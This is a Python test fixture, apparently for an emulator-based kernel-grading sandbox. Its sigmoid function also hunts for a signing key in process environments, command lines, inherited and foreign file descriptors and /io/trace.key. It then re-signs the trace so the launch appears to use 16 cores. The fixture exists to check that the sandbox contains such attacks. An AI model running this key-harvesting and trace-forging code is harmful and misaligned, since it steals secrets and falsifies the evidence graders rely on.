"""Adversarial sandbox fixture `key_from_descriptors` (not a solution): a one-core vector kernel that looks for a key in /proc/self/environ and every other process's environ and cmdline, reads every inherited descriptor 3..1023 (read and pread), reopens every other process's descriptors through /proc/<pid>/fd and tries /io/trace.key, then re-signs its records as a 16-core pipeline with each 32-byte or 64-hex candidate

Getting through returns the right answer (so a broken sandbox would look like a pass); being contained
raises "contained: ..." or is cut off by the runner.
"""

import os
import signal
import socket
import sys
import time

import my_ops_ext  # noqa: F401  the stub extension
import torch

import json

LAUNCH = {"record": "launch", "kernel": "sigmoid_pipeline_kernel", "dim": [4, 1, 1], "func_type": "UNION1",
          "device": "mlu370-x8", "time_split_us": {"scalar": 0.0, "vector": 1.0, "tensor": 0.0, "io": 1.0,
                                                   "wait": 0.0},
          "onchip_peak_bytes": {"nram": 524288, "wram": 0, "sram": 0},
          "onchip_capacity_bytes": {"nram": 786432, "wram": 1048576, "sram": 4194304},
          "builtin_counts": {"__bang_active_sigmoid": 16, "__memcpy_async": 32}, "cores_used": 16,
          "diagnostics": [], "written_bytes": []}


def current_trace():
    """The running call's trace: $BANG_EMU_TRACE where the harness still sets it, else the first call of
    job.json that has no result file yet (calls run in order)."""
    path = os.environ.get("BANG_EMU_TRACE")
    if path:
        return path
    try:
        with open("/io/job.json") as f:
            calls = json.load(f)["calls"]
    except (OSError, ValueError, KeyError, TypeError):
        return None
    for call in calls:
        if not os.path.exists(f"/io/outputs/{call['id']}.json"):
            return f"/io/outputs/{call['id']}.trace.jsonl"
    return None


def forge_text(text):
    path = current_trace()
    if path:
        with open(path, "a") as f:
            f.write(text + "\n")


def forge(record):
    path = current_trace() or ""
    call_id = os.path.basename(path).split(".")[0]
    signed = json.dumps({**record, "call": call_id, "seq": 0})
    forge_text(json.dumps(record) + "\n" + "0" * 64 + " " + signed)

import hashlib
import hmac


def resign_call(key):
    path = current_trace()
    if not path or not os.path.exists(path):
        return
    call_id = os.path.basename(path).split(".")[0]
    call_key = hmac.new(key, b"bang-emu-call:" + call_id.encode(), hashlib.sha256).digest() if key else None
    lines = []
    with open(path) as f:
        for line in f:
            mac, _, payload = line.rstrip("\n").partition(" ")
            try:
                record = json.loads(payload)
            except ValueError:
                continue
            if record.get("record") == "launch":
                record.update(cores_used=16, dim=[16, 1, 1], func_type="UNION4", modelled_time_us=1.0,
                              builtin_counts={**record.get("builtin_counts", {}), "__memcpy_async": 64})
            text = json.dumps(record, separators=(",", ":"))
            mac = hmac.new(call_key, text.encode(), hashlib.sha256).hexdigest() if call_key else "0" * 64
            lines.append(mac + " " + text + "\n")
    with open(path, "w") as f:
        f.writelines(lines)

import re

HEX_KEY = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")


def candidates():
    found = []
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for path in ["/io/trace.key", "/proc/self/environ"] + [f"/proc/{p}/{w}" for p in pids for w in ("environ",
                                                                                                  "cmdline")]:
        try:
            with open(path, "rb") as f:
                data = f.read(1 << 16)
        except OSError:
            continue
        found += [bytes.fromhex(m.decode()) for m in HEX_KEY.findall(data)]
        if path.endswith("trace.key") and len(data) == 32:
            found.append(data)
    for fd in range(3, 1024):
        try:
            os.set_blocking(fd, False)  # an empty pipe must not hang the search
        except OSError:
            continue
        for read in (lambda: os.read(fd, 4096), lambda: os.pread(fd, 4096, 0)):
            try:
                data = read()
            except OSError:
                continue
            if len(data) == 32:
                found.append(data)
            found += [bytes.fromhex(m.decode()) for m in HEX_KEY.findall(data)]
    for pid in pids:
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                fd = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                data = os.read(fd, 64)
            except OSError:
                continue
            finally:
                os.close(fd)
            if len(data) == 32:
                found.append(data)
    return found


def sigmoid(x):
    y = my_ops_ext.sigmoid_vector(x)
    keys = candidates()
    resign_call(keys[0] if keys else None)
    return y
